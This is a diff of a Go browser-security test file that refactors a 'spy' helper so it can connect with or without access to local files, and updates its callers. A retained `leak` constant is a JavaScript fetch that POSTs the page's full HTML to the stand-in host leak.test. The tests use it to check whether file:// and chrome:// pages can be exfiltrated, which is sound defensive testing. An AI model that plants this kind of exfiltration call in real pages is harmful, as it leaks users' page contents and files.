@@ -87,11 +87,14 @@ type spy struct {
 // leak sends the document to a site of the spy's, where it runs.
 const leak = `fetch("http://leak.test/leak", {method: "POST", mode: "no-cors", body: document.documentElement.outerHTML})`
 
-func newSpy(t *testing.T, p *profile, b *Browser, c *canary) *spy {
+func newSpy(t *testing.T, b *Browser, c *canary) *spy { t.Helper(); return newSpyWith(t, b, c, true) }
+
+// newSpyWith connects one that may use files of the machine, or may not.
+func newSpyWith(t *testing.T, b *Browser, c *canary, files bool) *spy {
 	t.Helper()
 	ctx, cancel := context.WithTimeout(t.Context(), patient)
 	defer cancel()
-	socket, _, err := websocket.Dial(ctx, strings.Replace(serveGateway(t, b), "http://", "ws://", 1)+"/", nil)
+	socket, _, err := websocket.Dial(ctx, strings.Replace(serveGatewayTo(t, b, files), "http://", "ws://", 1)+"/", nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -329,7 +332,7 @@ func TestClosedPages(t *testing.T) {
 			t.Fatal(err)
 		}
 		run := withExtension(t, b)
-		s := newSpy(t, p, b, c)
+		s := newSpy(t, b, c)
 		stop, stopped := make(chan struct{}), make(chan struct{})
 		go func() { defer close(stopped); s.poll(stop) }()
 		closes := func(way string) {
@@ -444,7 +447,7 @@ func TestPersonsPages(t *testing.T) {
 	if err := b.Start(t.Context()); err != nil {
 		t.Fatal(err)
 	}
-	s := newSpy(t, p, b, c)
+	s := newSpy(t, b, c)
 	stop, stopped := make(chan struct{}), make(chan struct{})
 	go func() { defer close(stopped); s.poll(stop) }()
 	for i, address := range []string{"file://" + c.file, "file://" + c.folder + "/", "view-source:file://" + c.file, "chrome://settings/", "chrome://newtab/", "chrome://version/"} {
